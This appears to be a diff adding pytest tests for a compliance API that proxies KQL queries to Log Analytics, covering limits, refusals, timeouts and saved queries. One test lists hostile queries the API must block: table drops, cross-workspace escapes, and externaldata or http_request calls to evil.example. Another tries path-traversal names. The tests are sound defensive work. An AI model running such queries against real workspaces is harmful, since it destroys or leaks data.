@@ -1,0 +1,265 @@
+"""Queries over HTTP: the published sample's callers, limits, refusals, and what an engine says about bad KQL."""
+
+import asyncio
+import json
+import logging
+from typing import Any
+
+import pytest
+
+from sandbox.azure import Sandbox
+from sandbox.effects import Body, Status
+from sandbox.operations import LogQuery
+from sandbox.services import Service
+from tests.compliance_api.conftest import Api
+from tests.queries.fleet import Fleet, good, states_of
+
+RUNS = "PolicyCollectionRuns_CL"
+
+
+@pytest.fixture(autouse=True)
+def rows(api: Api, fleet: Fleet) -> None:
+    fleet.run(hours_ago=30, alpha=[good()])
+    fleet.run(hours_ago=0.5, alpha=states_of(20, good()))
+
+
+async def test_a_query_is_answered_as_the_published_sample_answers_it(api: Api) -> None:
+    reply = await api.query({"query": f"{RUNS} | project Run_id, Applications", "timespan": "P7D"})
+
+    assert reply.status == 200
+    assert {name: reply.json[name] for name in ("status", "row_count", "results")} == {
+        "status": "success",
+        "row_count": 2,
+        "results": [{"Run_id": "run-1", "Applications": 1}, {"Run_id": "run-2", "Applications": 1}],
+    }
+    assert reply.json["columns"] == [{"name": "Run_id", "type": "string"}, {"name": "Applications", "type": "int"}]
+
+
+async def test_a_query_without_a_time_span_looks_back_an_hour(api: Api) -> None:
+    assert (await api.query({"query": f"{RUNS} | project Run_id"})).json["results"] == [{"Run_id": "run-2"}]
+
+
+async def test_the_tables_are_listed_as_the_published_sample_lists_them(api: Api) -> None:
+    told = (await api.get("list_tables")).json
+
+    assert told["status"] == "success"
+    assert told["table_count"] == len(told["tables"]) == 3
+    assert {"name": RUNS, "row_count_24h": 1} in told["tables"]
+
+
+@pytest.mark.parametrize("timespan", ["PT1H", "pt24h", "P1D", "P31D", "P1DT2H", "PT90M", "P2W", "2026-03-09/P2D",
+                                      "2026-03-09T00:00:00Z/2026-03-10T12:00:00Z", "P2D/2026-03-10"])  # fmt: skip
+async def test_time_spans_are_iso_8601(api: Api, timespan: str) -> None:
+    assert (await api.query({"query": RUNS, "timespan": timespan})).status == 200
+
+
+@pytest.mark.parametrize(
+    "timespan",
+    ["P32D", "P99999D", "2020-01-01/2026-01-01", "1h", "P", "PT", "P1Y", "PT0S", "P1D/P1D", "2026-03-10/2026-03-09", 24,
+     ["P1D"], "P1D" * 50, "/", "P1D/"],
+)  # fmt: skip
+async def test_a_bad_time_span_is_refused(api: Api, timespan: Any) -> None:
+    reply = await api.query({"query": RUNS, "timespan": timespan})
+
+    assert (reply.status, reply.json["field"]) == (400, "timespan")
+
+
+@pytest.mark.parametrize(
+    ("content", "status", "field"),
+    [
+        (b"{", 400, "body"),
+        (b"\xff", 400, "body"),
+        ([], 400, "body"),
+        ({}, 400, "query"),
+        ({"query": ""}, 400, "query"),
+        ({"query": "  "}, 400, "query"),
+        ({"query": 1}, 400, "query"),
+        ({"query": "x" * 33_000}, 400, "query"),
+        ({"query": "x" * 140_000}, 413, None),
+    ],
+)
+async def test_a_bad_body_is_refused(api: Api, content: Any, status: int, field: str | None) -> None:
+    reply = await api.query(content)
+
+    assert (reply.status, reply.json.get("field")) == (status, field)
+
+
+@pytest.mark.parametrize("media_type", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data", ""])
+async def test_what_a_form_can_send_is_no_query(api: Api, media_type: str) -> None:
+    assert (await api.query({"query": "print 1"}, media_type=media_type)).status == 415
+
+
+@pytest.mark.parametrize(
+    "query",
+    [
+        ".drop table PolicyCollectionRuns_CL",
+        "  .show tables",
+        "// harmless\n.set-or-append T <| print 1",
+        "print 1; .show tables",
+        "workspace('other').Heartbeat",
+        'WorkSpace ( "other" ).Heartbeat',
+        "workspace // comment\n('other').Heartbeat",
+        "union Heartbeat, app('other').requests",
+        "cluster('help').database('Samples').StormEvents",
+        "alias database d = cluster('help').database('Samples'); d.StormEvents",
+        "arg('').Resources",
+        "adx('https://x/db').T",
+        "resource('/subscriptions/x').T",
+        "external_table('x')",
+        "externaldata(a: string)['https://evil.example/x.csv']",
+        "externaldata (a: string) [h@'https://evil.example/x.csv']",
+        "T | evaluate http_request('https://evil.example')",
+        "evaluate hint.distribution = per_node http_request_post('https://evil.example')",
+        "T | evaluate python(typeof(*), 'x')",
+        "T | evaluate sql_request('x', 'y')",
+        "T | evaluate",
+        'print "a\\""; workspace("x").T',
+        "print @'\\'; workspace('x').T",
+        "print ```\"``` | union workspace('x').T",
+        "['workspace']('x').T",
+    ],
+)
+async def test_a_query_that_leaves_the_workspace_is_refused_before_it_is_asked(
+    api: Api, sandbox: Sandbox, query: str
+) -> None:
+    fault = sandbox.faults.add(LogQuery(), Status(500))
+
+    reply = await api.query({"query": query})
+
+    assert (reply.status, reply.json["field"]) == (400, "query")
+    assert fault.seen == 0
+
+
+@pytest.mark.parametrize(
+    "query",
+    [
+        f"{RUNS} | where Trigger != 'workspace(\"x\")' // cluster('y')",
+        f"{RUNS} | extend app = 'x' | where app in ('x')",
+        "print resource = 1, database = 2",
+        "print x = '.drop table'",
+    ],
+)
+async def test_words_that_only_look_dangerous_are_no_reason(api: Api, query: str) -> None:
+    assert (await api.query({"query": query})).status == 200
+
+
+@pytest.mark.parametrize(
+    ("query", "place"),
+    [(f"{RUNS} | wher Applications > 1", (1, 25)), (f"{RUNS}\n| where Run_id == 'x", (2, 19)), (f"{RUNS} | where Nothing == 1", None)],
+)  # fmt: skip
+async def test_bad_kql_gets_the_engine_s_message_and_position(
+    api: Api, query: str, place: tuple[int, int] | None
+) -> None:
+    reply = await api.query({"query": query})
+
+    assert (reply.status, reply.json["field"]) == (400, "query")
+    assert reply.json["engine"]["message"]
+    assert reply.json["error"] == reply.json["detail"]
+    if place:
+        assert (reply.json["engine"]["line"], reply.json["engine"]["position"]) == place
+
+
+async def test_more_rows_than_allowed_are_a_partial_answer(api: Api, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("QUERY_MAX_ROWS", "5")
+
+    reply = await api.query({"query": "PolicyComplianceStates_CL"})
+
+    assert reply.status == 206
+    assert (reply.json["status"], reply.json["row_count"], len(reply.json["results"])) == ("partial", 5, 5)
+    assert reply.json["error"] == "Only the first 5 of 20 rows are here."
+
+
+def answer_of(*rows: list[Any], **more: Any) -> Body:
+    table = {"name": "PrimaryResult", "columns": [{"name": "x", "type": "string"}], "rows": rows}
+    return Body(json.dumps({"tables": [table], **more}).encode())
+
+
+async def test_more_bytes_than_allowed_are_a_partial_answer(
+    api: Api, sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("QUERY_MAX_MEGABYTES", "1")
+    sandbox.faults.add(LogQuery(), answer_of(*[["x" * 30_000]] * 50))
+
+    reply = await api.query({"query": "T"})
+
+    assert (reply.status, reply.json["status"], reply.json["row_count"]) == (206, "partial", 33)
+    assert reply.json["error"] == "Only the first 33 of 50 rows are here: the answer would be too large."
+    assert len(reply.body) < 1_010_000
+
+
+async def test_an_answer_that_is_far_too_long_is_not_read_to_its_end(
+    api: Api, sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("QUERY_MAX_MEGABYTES", "1")
+    sandbox.faults.add(LogQuery(), answer_of(*[["x" * 30_000]] * 200))
+
+    reply = await api.query({"query": "T"})
+
+    assert (reply.status, reply.json["field"]) == (400, "query")
+    assert "too large" in reply.json["detail"]
+
+
+async def test_part_of_an_answer_is_called_that(api: Api, sandbox: Sandbox) -> None:
+    details = [{"code": "EngineError", "message": "The results of this query exceed the set limit of 64000000 bytes."}]
+    error = {
+        "code": "PartialError",
+        "message": "There were some errors when processing your query.",
+        "details": details,
+    }
+    sandbox.faults.add(LogQuery(), answer_of(["1"], error=error))
+
+    for reply in (await api.query({"query": "T"}), await api.get("saved_queries/applications")):
+        assert (reply.status, reply.json["status"], reply.json["results"]) == (206, "partial", [{"x": "1"}])
+        assert "exceed the set limit" in reply.json["error"]
+
+
+async def test_only_so_many_queries_run_at_once(api: Api) -> None:
+    replies = await asyncio.gather(*(api.query({"query": f"print x = {number}"}) for number in range(6)))
+
+    assert sorted(reply.status for reply in replies) == [200, 200, 200, 200, 429, 429]
+    assert {reply.headers["retry-after"] for reply in replies if reply.status == 429} == {"5"}
+    assert (await api.query({"query": "print 1"})).status == 200
+
+
+async def test_a_query_that_takes_too_long_is_told(api: Api, sandbox: Sandbox) -> None:
+    sandbox.faults.add(LogQuery(), Status(504, code="GatewayTimeout"))
+
+    reply = await api.query({"query": RUNS})
+
+    assert (reply.status, reply.json["field"]) == (504, "query")
+    assert "50 seconds" in reply.json["detail"]
+
+
+async def test_the_workspace_is_told_how_long_a_query_may_take(
+    api: Api, sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("QUERY_MAX_SECONDS", "7")
+
+    await api.query({"query": RUNS})
+
+    [request] = sandbox.requests.of(Service.LOG_ANALYTICS)
+    assert request.headers["prefer"] == "wait=7"
+
+
+async def test_saved_queries_are_there_for_every_reader(api: Api) -> None:
+    listed = (await api.get("saved_queries")).json["queries"]
+    reply = await api.get("saved_queries/fleet_summary")
+
+    assert {"fleet_summary", "applications", "application_noncompliant"} <= {one["name"] for one in listed}
+    assert all(one["description"] for one in listed)
+    assert reply.json["results"][0]["Applications"] == 1
+
+
+@pytest.mark.parametrize("name", ["nothing", "..\\README", "..", "fleet_summary.kql", "FLEET_SUMMARY", " "])
+async def test_an_unknown_saved_query_is_not_found(api: Api, name: str) -> None:
+    reply = await api.get(f"saved_queries/{name}")
+
+    assert (reply.status, reply.json["field"]) == (404, "name")
+
+
+async def test_a_query_is_logged_with_who_asked_and_without_what(api: Api, caplog: pytest.LogCaptureFixture) -> None:
+    with caplog.at_level(logging.INFO, logger="compliance_api"):
+        await api.query({"query": "print secret = 'hush'"})
+
+    assert "1 rows" in caplog.text
+    assert "hush" not in caplog.text
